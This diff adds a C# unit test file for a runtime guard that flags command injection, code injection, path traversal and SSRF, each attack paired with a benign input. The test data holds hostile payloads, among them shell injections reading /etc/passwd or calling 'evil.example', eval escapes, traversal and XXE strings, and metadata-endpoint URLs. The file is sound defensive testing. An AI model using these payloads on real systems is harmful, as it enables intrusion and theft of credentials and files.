@@ -1,0 +1,122 @@
+using Pellicle.Guard.Sinks;
+using Pellicle.Inspection;
+
+namespace Pellicle.Guard.Tests;
+
+/// <summary>Events meet sinks: every attack has a benign twin.</summary>
+public class SinkTests
+{
+    private static EventText[] Texts(string text) => [new("unrelated", "hello"), new("field", text)];
+
+    [Theory]
+    [InlineData("ping -c1 {0}", "example.com; cat /etc/passwd")]
+    [InlineData("ping -c1 {0}", "example.com|id")]
+    [InlineData("ping -c1 {0}", "$(id>&2)")]
+    [InlineData("ping -c1 {0}", "`whoami`")]
+    [InlineData("ping -c1 \"{0}\"", "$(curl evil.example)")]
+    [InlineData("ping -c1 \"{0}\"", "x\"; id; \"")]
+    [InlineData("ping -c1 '{0}'", "x'; id; '")]
+    [InlineData("ping -c1 {0}", "x && reboot")]
+    [InlineData("ping -c1 {0}", "x\nreboot")]
+    [InlineData("cat {0} | sort", "a > /var/task/handler.py")]
+    [InlineData("ping -c1 {0}", "x;cat${{IFS}}/etc/passwd")]
+    [InlineData("{0}", "cat /etc/passwd")]
+    public void Command_injection(string command, string text) => Process("sh", "-c", string.Format(null, command, text.Replace("{{", "{").Replace("}}", "}")), text.Replace("{{", "{").Replace("}}", "}"))
+        .ShouldNotBeNull().ShouldSatisfyAllConditions(h => h.Detector.ShouldBe("command-injection"), h => h.Block.ShouldBeTrue(), h => h.Field.ShouldBe("field"));
+
+    [Theory]
+    [InlineData("ping -c1 {0} && echo done | tee log", "example.com")]
+    [InlineData("ping -c1 '{0}'", "example.com; cat /etc/passwd")]
+    [InlineData("grep \"{0}\" notes.txt > out", "fish & chips; salt | pepper")]
+    [InlineData("convert '{0}' out.png", "holiday (1) $5 & more.jpg")]
+    [InlineData("curl http://x.example/{0}", "?a=1&b=2")]
+    [InlineData("ls -l | wc", "please run ls and wc")]
+    [InlineData("echo {0}", "hello world")]
+    [InlineData("a=$(date); echo $a; cat {0}", "file.txt")]
+    public void Benign_commands(string command, string text) => Process("sh", "-c", string.Format(null, command, text), text).ShouldBeNull();
+
+    [Fact]
+    public void A_trimmed_or_cut_text_is_still_recognised() =>
+        Process("bash", "-lc", "ping example.com; cat /etc/passwd", "  host=example.com; cat /etc/passwd&x=1").ShouldNotBeNull();
+
+    [Fact]
+    public void A_file_name_as_an_argument_is_no_injection()
+    {
+        Arguments("/usr/bin/convert", ["convert", "a;b.png", "out.png"], "a;b.png").ShouldBeNull();
+        Arguments("/usr/bin/cat", ["cat", "/tmp/report.txt"], "/tmp/report.txt").ShouldBeNull();
+    }
+
+    [Fact]
+    public void A_program_named_by_the_event_is()
+    {
+        Arguments("/usr/bin/nc", ["/usr/bin/nc", "x"], "/usr/bin/nc").ShouldNotBeNull().Block.ShouldBeTrue();
+    }
+
+    [Fact]
+    public void Options_from_the_event_are_reported_and_dangerous_ones_stopped()
+    {
+        Arguments("/usr/bin/git", ["git", "clone", "--upload-pack=touch x"], "--upload-pack=touch x").ShouldNotBeNull().Block.ShouldBeTrue();
+        Arguments("/usr/bin/ls", ["ls", "-laR"], "-laR").ShouldNotBeNull().Block.ShouldBeFalse();
+    }
+
+    [Theory]
+    [InlineData("__import__('os').system('id')", true)]
+    [InlineData("require('child_process').execSync('id')", true)]
+    [InlineData("this.constructor.constructor('return process')()", true)]
+    [InlineData("1 + 2 * (3 - 4)", false)]
+    [InlineData("max(price, 100) * 1.19", false)]
+    [InlineData("customer.name", false)]
+    public void Code_from_an_event(string text, bool injection) => (CodeSink.Check("eval", text, Texts(text)) is not null).ShouldBe(injection);
+
+    [Theory]
+    [InlineData("/etc/passwd", "/var/task/files/../../../etc/passwd", "../../../etc/passwd")]
+    [InlineData("/etc/passwd", "/etc/passwd", "../../../../etc/passwd")]
+    [InlineData("/etc/passwd", "/etc/passwd", "/etc/passwd")]
+    [InlineData("/etc/passwd", "/etc/passwd", "file:///etc/passwd")]
+    [InlineData("/etc/passwd", "/etc/passwd", "..%2f..%2f..%2fetc%2fpasswd")]
+    [InlineData("/etc/passwd", "/var/task/../../etc/passwd", "....//....//etc/passwd")]
+    [InlineData("/var/task/handler.py", "/var/task/files/../handler.py", "../handler.py")]
+    [InlineData("/etc/passwd", "/etc/passwd", "../../../etc/passwd\0.png")]
+    [InlineData("/etc/passwd", "/etc/passwd", "<!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><r>&x;</r>")]
+    public void Traversal(string resolved, string raw, string text) =>
+        PathSink.Check(resolved, raw, Texts(text)).ShouldNotBeNull().Detector.ShouldBe("path-traversal");
+
+    [Theory]
+    [InlineData("/var/task/files/report.txt", "/var/task/files/report.txt", "report.txt")]
+    [InlineData("/var/task/static/index.html", "/var/task/static/index.html", "/index.html")]
+    [InlineData("/tmp/upload/a.txt", "/tmp/upload/a.txt", "/tmp/upload/a.txt")]
+    [InlineData("/var/task/files/b.txt", "/var/task/files/a/../b.txt", "a/../b.txt")]
+    [InlineData("/var/task/files/to..be.txt", "/var/task/files/to..be.txt", "to..be.txt")]
+    [InlineData("/etc/ssl/certs/ca.pem", "/etc/ssl/certs/ca.pem", "../../etc/passwd")]
+    [InlineData("/var/task/lib/x.py", "/var/task/lib/x.py", "wait ... what? ../")]
+    public void Benign_paths(string resolved, string raw, string text) => PathSink.Check(resolved, raw, Texts(text)).ShouldBeNull();
+
+    [Theory]
+    [InlineData("169.254.169.254:80", "169.254.169.254", "http://169.254.169.254/latest/meta-data/")]
+    [InlineData("127.0.0.1:9001", "127.0.0.1", "http://127.0.0.1:9001/2018-06-01/runtime/invocation/next")]
+    [InlineData("127.0.0.1:80", "127.0.0.1", "http://2130706433/")]
+    [InlineData("127.0.0.1:80", "127.0.0.1", "http://0x7f000001/")]
+    [InlineData("127.0.0.1:80", "127.0.0.1", "http://0177.0.0.1/")]
+    [InlineData("127.0.0.1:80", "127.0.0.1", "http://127.1/")]
+    [InlineData("::1:80", "::1", "http://[::1]/")]
+    [InlineData("rebind.example:80", "10.0.0.7", "https://rebind.example/x")]
+    [InlineData("localhost:0", "", "http://localhost/admin")]
+    public void Internal_hosts_named_by_an_event_are_stopped(string item, string ip, string text) =>
+        HostSink.Check(item, ip, Texts(text)).ShouldNotBeNull().Block.ShouldBeTrue();
+
+    [Fact]
+    public void Other_hosts_named_by_an_event_are_reported() =>
+        HostSink.Check("hooks.example.com:443", "93.184.216.34", Texts("https://hooks.example.com/notify")).ShouldNotBeNull().Block.ShouldBeFalse();
+
+    [Theory]
+    [InlineData("api.example.com:443", "93.184.216.34", "send it to example.com")]
+    [InlineData("10.0.0.7:5432", "10.0.0.7", "my number is 12345678")]
+    [InlineData("10.0.0.7:5432", "10.0.0.7", "version 10.0.0.70")]
+    [InlineData("db.internal:5432", "10.0.0.7", "who is the director?")]
+    public void Hosts_the_event_does_not_name(string item, string ip, string text) => HostSink.Check(item, ip, Texts(text)).ShouldBeNull();
+
+    private static SinkHit? Process(string shell, string option, string command, string text) =>
+        ProcessSink.Check("/usr/bin/" + shell, "/bin/" + shell, [shell, option, command], Texts(text));
+
+    private static SinkHit? Arguments(string program, string[] argv, string text) => ProcessSink.Check(program, argv[0], argv, Texts(text));
+}
